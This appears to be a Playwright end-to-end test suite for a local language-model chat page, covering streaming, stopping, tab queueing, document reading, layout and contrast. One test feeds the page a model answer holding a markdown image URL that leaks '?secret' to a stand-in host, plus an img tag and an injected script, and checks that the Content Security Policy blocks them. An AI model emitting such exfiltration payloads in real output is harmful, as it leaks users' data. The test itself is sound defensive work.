@@ -1,0 +1,391 @@
+"""The page in a real Chromium, over a fake engine."""
+
+from __future__ import annotations
+
+import contextlib
+import random
+import time
+from pathlib import Path
+
+import pytest
+from fake_engine import out_of_memory
+from test_following import ALL_WORDS, wait_for
+from test_html_pieces import contrast
+
+pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
+
+from browsing import Visitor, ask, chromium, open_tab, serve_fake, text_of, wait_for_text
+from playwright.sync_api import TimeoutError as PlaywrightTimeout
+
+pytestmark = pytest.mark.browser
+
+PHONE = (390, 844)
+LINE = "The keeper wrote down the weather and counted the ships that passed.\n"
+SLOW = 0.08
+
+
+@pytest.fixture(scope="module")
+def site(tmp_path_factory):
+    with serve_fake(tmp_path_factory.mktemp("data")) as site:
+        yield site
+
+
+@pytest.fixture(scope="module")
+def window():
+    with chromium() as window:
+        yield window
+
+
+@pytest.fixture
+def visit(window, site):
+    """Open windows; at the end nothing may have been fetched from elsewhere or gone wrong."""
+    visitors = []
+
+    def open_window(**settings) -> Visitor:
+        visitors.append(Visitor(window, site.url, **settings))
+        return visitors[-1]
+
+    yield open_window
+    for visitor in visitors:
+        visitor.close()
+    site.rest()
+    for visitor in visitors:
+        assert visitor.foreign_requests() == []
+        assert visitor.complaints == []
+
+
+@pytest.fixture
+def page(visit):
+    return visit().page
+
+
+@pytest.fixture
+def document(tmp_path) -> Path:
+    path = tmp_path / "field notes.md"
+    path.write_text(LINE * 100)
+    return path
+
+
+def open_document(page, path: Path) -> None:
+    open_tab(page, "Documents")
+    page.set_input_files("#doc-file input[type=file]", str(path))
+    wait_for_text(page, "#doc-card", "tokens")
+
+
+def read_document(page, path: Path) -> None:
+    open_document(page, path)
+    wait_for_text(page, "#doc-fit", "Fits")
+    page.click("#doc-read")
+    page.wait_for_selector("#doc-box textarea", state="visible")
+
+
+def test_the_first_look_explains_itself(page):
+    assert "Ask anything" in text_of(page, "#chat-log")
+    assert "Scripted-1B" in text_of(page, "#model-line")
+    assert "running on the processor" in text_of(page, "#model-line")
+    wait_for_text(page, "#chat-gauge", "2,048 more tokens")
+    assert not page.locator("#chat-stop").is_visible()
+    assert page.locator("#chat-box textarea").is_editable()
+
+
+def test_the_page_is_there_while_the_model_is_still_being_loaded(window, tmp_path):
+    with serve_fake(tmp_path, is_loaded=False) as site:
+        # ten steps: long enough to write something meanwhile on a busy machine
+        site.script.load_delay_s = 1.0
+        site.services.models.load(None)
+        visitor = Visitor(window, site.url)
+        page = visitor.page
+        assert "You can write already" in text_of(page, "#model-line")
+        ask(page, "hello")
+        wait_for_text(page, "#chat-status", "until the model is loaded")
+        wait_for_text(page, "#chat-log", ALL_WORDS, timeout_s=40)
+        wait_for_text(page, "#model-line", "Scripted-1B")
+        visitor.close()
+
+
+def test_an_answer_is_streamed_word_by_word_and_then_measured(page, site):
+    site.script.token_delay_s = SLOW
+    ask(page, "Count to twelve")
+    wait_for_text(page, "#chat-log", "one two")
+    assert ALL_WORDS not in text_of(page, "#chat-log")
+    assert page.locator("#chat-stop").is_visible()
+    assert page.input_value("#chat-box textarea") == ""
+    wait_for_text(page, "#chat-log", ALL_WORDS)
+    page.wait_for_selector("#chat-send", state="visible")
+    wait_for_text(page, "#chat-figures", "Measured factor")
+    assert "12 tokens" in text_of(page, "#chat-figures")
+    page.wait_for_selector("#chat-plot .js-plotly-plot .bars")
+    assert page.locator("#chat-gauge [role=meter]").get_attribute("aria-valuenow") != "0"
+
+
+def test_stop_during_prefill_frees_the_engine_within_a_chunk(page, site):
+    site.script.chunk_delay_s, site.script.chunk_tokens = 0.05, 1
+    ask(page, "word " * 300)
+    wait_for_text(page, "#chat-status", "Reading")
+    page.click("#chat-stop")
+    wait_for_text(page, "#chat-status", "Stopped")
+    page.wait_for_selector("#chat-send", state="visible")
+    assert site.engine.waiting == 0
+    site.script.chunk_delay_s = 0.0
+    ask(page, "Count")
+    wait_for_text(page, "#chat-log", ALL_WORDS)
+
+
+def test_escape_stops_and_the_partial_answer_stays(page, site):
+    site.script.token_delay_s = SLOW
+    ask(page, "Count")
+    wait_for_text(page, "#chat-log", "one two")
+    page.keyboard.press("Escape")
+    wait_for_text(page, "#chat-status", "Stopped")
+    shown = text_of(page, "#chat-log")
+    assert "one two" in shown
+    assert "twelve" not in shown
+    site.script.token_delay_s = 0.0
+    page.click("#chat-again")
+    wait_for_text(page, "#chat-log", ALL_WORDS)
+
+
+def test_slash_goes_to_the_input(page):
+    page.locator("#chat-preset").click()
+    page.locator("body").press("/")
+    assert page.evaluate("document.activeElement.closest('#chat-box') !== null")
+    page.keyboard.type("a/b")
+    assert page.input_value("#chat-box textarea") == "a/b"
+
+
+def test_loading_the_page_again_in_mid_answer_brings_chat_and_answer_back(page, site):
+    site.script.token_delay_s = 1.0
+    ask(page, "Count to twelve")
+    wait_for_text(page, "#chat-log", "one")
+    page.reload()
+    wait_for_text(page, "#chat-status", "the answer went on")
+    site.script.token_delay_s = 0.0
+    assert "Count to twelve" in text_of(page, "#chat-log")
+    wait_for_text(page, "#chat-log", ALL_WORDS)
+    wait_for_text(page, "#chat-figures", "12 tokens")
+    assert len(site.engine.prompts[-1]) < 200
+
+
+def test_an_answer_nobody_comes_back_for_is_stopped(visit, site, monkeypatch):
+    monkeypatch.setattr(site.services.sessions, "_grace_s", 0.2)
+    visitor = visit()
+    site.script.token_delay_s = 1.0
+    ask(visitor.page, "Count to twelve")
+    wait_for_text(visitor.page, "#chat-log", "one")
+    readings = []
+    monkeypatch.setattr(site.services, "memory", lambda: readings.append(1))
+    visitor.close()
+    wait_for(lambda: site.engine.is_idle, timeout_s=5)
+    # nor is a page that is gone kept up to date
+    time.sleep(1.5)
+    readings.clear()
+    time.sleep(1.5)
+    assert readings == []
+
+
+def test_a_second_tab_is_told_that_it_waits_and_gets_its_turn(visit, site):
+    visitor = visit()
+    site.script.token_delay_s = 0.6
+    ask(visitor.page, "first")
+    wait_for_text(visitor.page, "#chat-log", "one")
+    other = visitor.new_tab()
+    ask(other, "second")
+    wait_for_text(other, "#chat-status", "2nd in line")
+    site.script.token_delay_s = 0.0
+    wait_for_text(other, "#chat-log", ALL_WORDS)
+    assert "first" not in text_of(other, "#chat-log")
+
+
+def test_out_of_memory_is_shown_and_the_next_question_works(page, site):
+    site.script.fail_next = out_of_memory()
+    ask(page, "too much")
+    wait_for_text(page, "#chat-status", "ran out of memory")
+    assert "too much" in text_of(page, "#chat-log")
+    ask(page, "less")
+    wait_for_text(page, "#chat-log", ALL_WORDS)
+
+
+def test_an_answer_can_run_no_script_and_fetch_no_image(visit, site):
+    visitor = visit()
+    page = visitor.page
+    site.script.answer = lambda _prompt, _config: (
+        "Look: ![x](http://198.51.100.7/leak.png?secret) "
+        "<img src='http://198.51.100.7/two.png'> <script>document.title='taken'</script> end"
+    )
+    ask(page, "Show me")
+    wait_for_text(page, "#chat-log", "end")
+    page.wait_for_timeout(500)
+    assert visitor.foreign_requests() == []
+    assert page.title() == "Nexusquant"
+    refused = [text for text in visitor.complaints if "198.51.100.7" in text]
+    assert all("Content Security Policy" in text for text in refused)
+    visitor.complaints[:] = [text for text in visitor.complaints if text not in refused]
+
+
+def test_a_preset_changed_in_mid_chat_says_what_it_means_on_every_tab(page):
+    ask(page, "Count")
+    wait_for_text(page, "#chat-log", ALL_WORDS)
+    page.get_by_label("Safe").first.check()
+    wait_for_text(page, "#chat-status", "read again")
+    wait_for_text(page, "#chat-preset-text", "Every token is kept")
+    open_tab(page, "Settings")
+    wait_for_text(page, "#set-preset-text", "Every token is kept")
+
+
+def test_a_document_is_counted_read_and_answered_from_with_its_pages(page, site, document):
+    open_document(page, document)
+    assert "field notes.md" in text_of(page, "#doc-card")
+    assert "1,200 tokens" in text_of(page, "#doc-card")
+    site.script.chunk_delay_s = 0.1
+    page.click("#doc-read")
+    wait_for_text(page, "#doc-status", "Reading page")
+    wait_for_text(page, "#doc-status", "tok/s")
+    page.wait_for_selector("#doc-box textarea", state="visible")
+    site.script.chunk_delay_s = 0.0
+    site.script.answer = lambda _prompt, _config: "He counted the ships [p. 2]."
+    page.fill("#doc-box textarea", "What did he count?")
+    page.press("#doc-box textarea", "Enter")
+    wait_for_text(page, "#doc-log", "counted the ships [p. 2]")
+    page.get_by_role("radio", name="p. 2").check()
+    wait_for_text(page, "#doc-page", "Page 2")
+    assert "counted the ships that passed" in text_of(page, "#doc-page")
+    page.click("#doc-strip [data-page='1']")
+    wait_for_text(page, "#doc-page", "Page 1")
+
+
+def test_a_document_too_long_is_offered_page_by_page(page, tmp_path):
+    path = tmp_path / "long.txt"
+    path.write_text(LINE * 250)
+    open_document(page, path)
+    wait_for_text(page, "#doc-fit", "Does not fit")
+    page.click("#doc-fewer")
+    wait_for_text(page, "#doc-fit", "Fits")
+    page.click("#doc-read")
+    page.wait_for_selector("#doc-box textarea", state="visible")
+
+
+def test_reading_can_be_stopped(page, site, document):
+    open_document(page, document)
+    site.script.chunk_delay_s, site.script.chunk_tokens = 0.05, 4
+    page.click("#doc-read")
+    wait_for_text(page, "#doc-status", "Reading page")
+    page.click("#doc-stop")
+    wait_for_text(page, "#doc-status", "Reading was stopped")
+    assert not page.locator("#doc-box").is_visible()
+
+
+def test_two_settings_are_compared_side_by_side(page, site):
+    site.script.token_delay_s = 0.04
+    site.script.answer = lambda _prompt, config: (
+        "the sky is blue today" if config.is_off else "the sky is green today"
+    )
+    open_tab(page, "Compare")
+    page.fill("#cmp-box textarea", "What colour is it?")
+    page.click("#cmp-run")
+    wait_for_text(page, "#cmp-right", "Waits for the other side")
+    wait_for_text(page, "#cmp-table", "word 4 of 5")
+    assert page.locator("#cmp-left mark").inner_text() == "blue"
+    assert page.locator("#cmp-right mark").inner_text() == "green"
+    assert "First token" in text_of(page, "#cmp-table")
+    assert page.locator("#cmp-run").inner_text() == "Compare"
+
+
+def test_a_model_is_loaded_from_settings_with_its_progress_shown(page, site):
+    open_tab(page, "Settings")
+    page.fill("#set-model textarea, #set-model input", "missing/model")
+    site.script.load_delay_s = 0.05
+    page.click("#set-load")
+    wait_for_text(page, "#model-line", "Reading weights")
+    wait_for_text(page, "#set-model-status", "could not be loaded")
+    assert "torch: " in page.input_value("#set-diagnostics textarea")
+
+
+def test_a_phone_never_scrolls_sideways(visit, site, document):
+    page = visit(size=PHONE).page
+    code = "```python\n" + "x = call(" + "argument, " * 40 + ")\n```"
+    site.script.answer = lambda _prompt, _config: f"{'VeryLong' * 40}\n\n{code}\n\nend"
+    ask(page, "A_very_long_word_without_any_break_" * 8)
+    wait_for_text(page, "#chat-log", "end")
+    read_document(page, document)
+    for name in ("Chat", "Documents", "Compare", "Settings"):
+        open_tab(page, name)
+        assert page.evaluate("document.documentElement.scrollWidth") <= 390, name
+    assert (
+        page.evaluate(
+            "parseFloat(getComputedStyle(document.querySelector('#chat-box textarea')).fontSize)"
+        )
+        >= 16
+    )
+
+
+BACKGROUND_AND_INK = """(selector) => {
+  const parse = (c) => c.match(/[\\d.]+/g).map(Number);
+  const element = document.querySelector(selector);
+  let below = element;
+  while (below && (parse(getComputedStyle(below).backgroundColor)[3] ?? 1) === 0) {
+    below = below.parentElement;
+  }
+  const two = (n) => Math.round(n).toString(16).padStart(2, '0');
+  const hex = (c) => '#' + parse(c).slice(0, 3).map(two).join('');
+  const background = getComputedStyle(below || document.body).backgroundColor;
+  return [hex(getComputedStyle(element).color), hex(background)];
+}"""
+
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+def test_text_can_be_read_on_light_and_dark(visit, scheme):
+    page = visit(scheme=scheme).page
+    ask(page, "Count")
+    wait_for_text(page, "#chat-figures", "Measured factor")
+    selectors = (".nq-head h1", ".nq-line", ".nq-figures i", ".nq-figures span", ".nq-card h3",
+                 ".nq-quiet", ".nq-under", "#chat-send", "[role=tab][aria-selected=true]",
+                 "#chat-log .message.bot", "#chat-log .message.user")  # fmt: skip
+    for selector in selectors:
+        ink, background = page.evaluate(BACKGROUND_AND_INK, selector)
+        assert contrast(ink, background) >= 4.5, (selector, ink, background)
+    ink, background = page.evaluate(BACKGROUND_AND_INK, ".nq-head h1")
+    assert (ink > background) is (scheme == "dark")
+
+
+def test_screen_readers_get_a_meter_and_phases(page):
+    assert page.locator("#chat-gauge [role=meter]").get_attribute("aria-label") == "Context used"
+    ask(page, "Count")
+    wait_for_text(page, "#chat-log", ALL_WORDS)
+    page.wait_for_selector(
+        "#chat-spoken [aria-live=polite] >> text=done, 12 words", state="attached"
+    )
+
+
+def test_fifty_random_events_never_run_two_jobs_at_once(visit, site):
+    dice = random.Random(20261123)
+    site.script.token_delay_s, site.script.chunk_delay_s = 0.01, 0.01
+    site.script.chunk_tokens = 8
+    visitor = visit()
+    tabs = [visitor.page, visitor.new_tab()]
+    before = len(site.engine.prompts)
+    for number in range(50):
+        page = dice.choice(tabs)
+        event = dice.choices(["start", "stop", "again", "refresh"], [5, 4, 2, 1])[0]
+        if event == "refresh":
+            page.reload(wait_until="commit")
+            page.wait_for_selector("#chat-box textarea")
+        elif event == "start":
+            ask(page, f"question {number} " + "word " * dice.randrange(80))
+        else:
+            button = page.locator("#chat-stop" if event == "stop" else "#chat-again")
+            # it may be gone before the mouse is there, as for a person
+            with contextlib.suppress(PlaywrightTimeout):
+                if button.is_visible():
+                    button.click(timeout=250)
+        time.sleep(dice.random() * 0.1)
+    for page in tabs:
+        with contextlib.suppress(PlaywrightTimeout):
+            page.click("#chat-stop", timeout=250)
+        page.wait_for_selector("#chat-send", state="visible")
+    wait_for(lambda: site.engine.waiting == 0)
+    assert site.engine.num_overlaps == 0
+    assert len(site.engine.prompts) - before >= 10
+    site.script.token_delay_s = 0.0
+    ask(tabs[0], "still alive?")
+    wait_for_text(tabs[0], "#chat-log", "still alive?")
+    wait_for_text(tabs[0], "#chat-figures", "12 tokens")
